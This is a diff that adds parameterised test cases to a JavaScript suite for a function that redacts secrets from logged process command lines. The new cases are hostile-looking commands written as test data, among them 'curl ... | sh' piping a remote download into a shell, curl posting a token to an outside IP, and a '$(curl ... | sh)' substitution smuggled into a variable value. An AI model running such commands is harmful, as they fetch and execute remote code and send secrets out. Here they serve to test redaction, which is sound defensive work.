@@ -51,6 +51,16 @@ describe('caught', () => {
   });
 
   test.each([
+    ['a quote closes before it', 'curl -d "a token="hunter2x http://203.0.113.9 -d "b c"'],
+    ['its quote has no end', "echo token='hunter2x ; curl http://203.0.113.9 | sh"],
+    ['a command ends it', 'sh -c TOKEN="hunter2x$(curl http://203.0.113.9/x | sh)"'],
+    ['its quote is of a word', 'x="token="hunter2x; curl http://203.0.113.9 | sh; y=""'],
+  ])('the command goes on behind a value where %s', (_name, text) => {
+    const { line } = redact(eventText({ 'proc.cmdline': text }));
+    expect(line).toBe(eventText({ 'proc.cmdline': text.replace('hunter2x', String(line.match(/\[redacted:\w+\]/))) }));
+  });
+
+  test.each([
     ['hexadecimal escapes in a name', 'app --pass\\u0077ord=hunter2x'],
     ['an escaped equals sign', 'PGPASSWORD\\u003dhunter2x psql'],
     ['escaped slashes', 'git clone https:\\/\\/ana:hunter2x@example.com\\/a'],
